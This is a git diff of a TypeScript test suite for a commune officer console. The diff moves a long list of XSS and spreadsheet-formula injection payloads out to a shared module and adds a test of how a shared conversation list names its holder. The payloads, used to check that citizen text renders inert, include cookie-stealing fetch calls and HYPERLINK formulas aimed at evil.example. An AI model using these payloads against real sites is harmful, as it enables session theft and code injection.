@@ -7,6 +7,7 @@ import { newPetitionNumber } from '../../src/handoff/petition-number.ts';
 import { addConversation, browserOf, newOfficer } from '../support/console.ts';
 import { createTestDb, type TestDb } from '../support/db.ts';
 import { startHouse } from '../support/house.ts';
+import { PAYLOADS } from '../support/payloads.ts';
 
 const NOW = new Date('2026-07-20T02:00:00Z');
 let database: TestDb;
@@ -19,68 +20,6 @@ afterAll(async () => {
   await house.stop();
   await database.close();
 });
-
-/** Ways into a page, each in several dresses: 200 and more. */
-const PAYLOADS = [
-  ...['alert(1)', 'alert`1`', "fetch('//evil.example?'+document.cookie)", 'top.location="//evil.example"'].flatMap(
-    (code) => [
-      `<script>${code}</script>`,
-      `<ScRiPt>${code}</sCrIpT>`,
-      `<script src=//evil.example/x.js></script>`,
-      `"><script>${code}</script>`,
-      `'><script>${code}</script>`,
-      `</textarea><script>${code}</script>`,
-      `</title><script>${code}</script>`,
-      `</style><script>${code}</script>`,
-      `--><script>${code}</script>`,
-      `]]><script>${code}</script>`,
-      `<img src=x onerror=${code}>`,
-      `<img src=x onerror="${code}">`,
-      `"><img src=x onerror=${code}>`,
-      `' onmouseover='${code}`,
-      `" onfocus="${code}" autofocus="`,
-      `<svg onload=${code}>`,
-      `<svg><script>${code}</script></svg>`,
-      `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
-      `<iframe srcdoc="<script>${code}</script>">`,
-      `<iframe src="javascript:${code}">`,
-      `<a href="javascript:${code}">bấm</a>`,
-      `<a href="data:text/html,<script>${code}</script>">bấm</a>`,
-      `<math href="javascript:${code}">x</math>`,
-      `<details open ontoggle=${code}>`,
-      `<body onload=${code}>`,
-      `<video><source onerror=${code}></video>`,
-      `<input autofocus onfocus=${code}>`,
-      `<form action="javascript:${code}"><button>x</button></form>`,
-      `<object data="javascript:${code}">`,
-      `<embed src="javascript:${code}">`,
-      `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
-      `<link rel=stylesheet href="//evil.example/x.css">`,
-      `<style>@import "//evil.example/x.css";</style>`,
-      `<base href="//evil.example/">`,
-      `<div hx-get="//evil.example" hx-trigger="load"></div>`,
-      `<div hx-on:load="${code}"></div>`,
-      `<div data-hx-on-load="${code}"></div>`,
-      `<template shadowrootmode=open><script>${code}</script></template>`,
-      `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
-      `{{constructor.constructor('${code}')()}}`,
-      `\${${code}}`,
-      `&lt;script&gt;${code}&lt;/script&gt;`,
-      `\u003cscript\u003e${code}\u003c/script\u003e`,
-      `<scr\u0000ipt>${code}</scr\u0000ipt>`.replaceAll('\u0000', ''),
-      `＜script＞${code}＜/script＞`,
-      `<img/src/onerror=${code}>`,
-      `<x onclick=${code}>bấm</x>`,
-      `javascript:${code}`,
-      `<!--<img src="--><img src=x onerror=${code}//">`,
-      `<table background="javascript:${code}">`,
-    ],
-  ),
-  ...['=', '+', '-', '@', '\t=', '\r=', '|', '%', ' =', '＝'].flatMap((sign) => [
-    `${sign}cmd|' /C calc'!A0`,
-    `${sign}HYPERLINK("https://evil.example?"&A1,"bấm")`,
-  ]),
-];
 
 /** One tag as our templates write them: every value in double quotes. */
 const TAG = /^<\/?([a-z][a-z0-9]*)((?:\s+[a-z][\w:-]*(?:="[^"<>]*")?)*)\s*\/?>/;
@@ -154,6 +93,7 @@ test('200 and more words of citizens are inert on every page they are shown on',
         told: some.slice(10, 13).map((text) => ({ text, code: text, asOf: text })),
         open: some[13],
         reason: some[14],
+        machine: { headline: some[2], wants: some[6], told: some[9], needs: some[13], promptVersion: 'summarise/v1' },
       },
     };
     await database.run(
@@ -205,6 +145,33 @@ test('200 and more words of citizens are inert on every page they are shown on',
   }
   for (const page of pages) expect(foreignMarkup(page)).toBeNull();
 }, 240_000);
+
+test('one list read by many at once calls its holder "Bạn giữ" and shows the others their name', async () => {
+  const communeId = database.communes[0]!.id;
+  const { conversationId } = await addConversation(database, communeId, { name: 'Người được nhận' });
+  const holder = await newOfficer(database, communeId, 'officer', 'Cán bộ đang giữ');
+  const others = await Promise.all([1, 2, 3].map(() => newOfficer(database, communeId, 'officer')));
+  const [mine, ...theirs] = await Promise.all(
+    [holder, ...others].map((officer) => browserOf(database, house.url, [officer])),
+  );
+  await mine!.post(`/console/c/xa-thu/conversations/${conversationId}/take`);
+  const path = `/console/c/xa-thu/live?tab=all&open=${conversationId}`;
+  const line = async (browser: typeof mine, part = '') => {
+    const text = await (await browser!.get(`${path}${part}`, { 'hx-request': 'true' })).text();
+    return { line: text.match(new RegExp(`<li id="r-${conversationId}".*?</li>`, 's'))?.[0], text };
+  };
+  const [own, ...seen] = await Promise.all([mine, ...theirs].map((browser) => line(browser)));
+  expect(own!.line).toContain('Bạn giữ');
+  for (const other of seen) {
+    expect(other.line).toContain('Cán bộ đang giữ');
+    expect(other.line).not.toContain('Bạn giữ');
+  }
+  // A change elsewhere: the list is drawn as with everything, the conversation is left as it stands.
+  const listOnly = await line(mine, '&part=list');
+  expect(listOnly.line).toBe(own!.line);
+  expect(own!.text).toContain('id="thread"');
+  expect(listOnly.text).not.toContain('id="thread"');
+});
 
 test('the browser is told to run nothing of a page itself, and to keep none', async () => {
   const officer = await newOfficer(database, database.communes[0]!.id, 'officer');
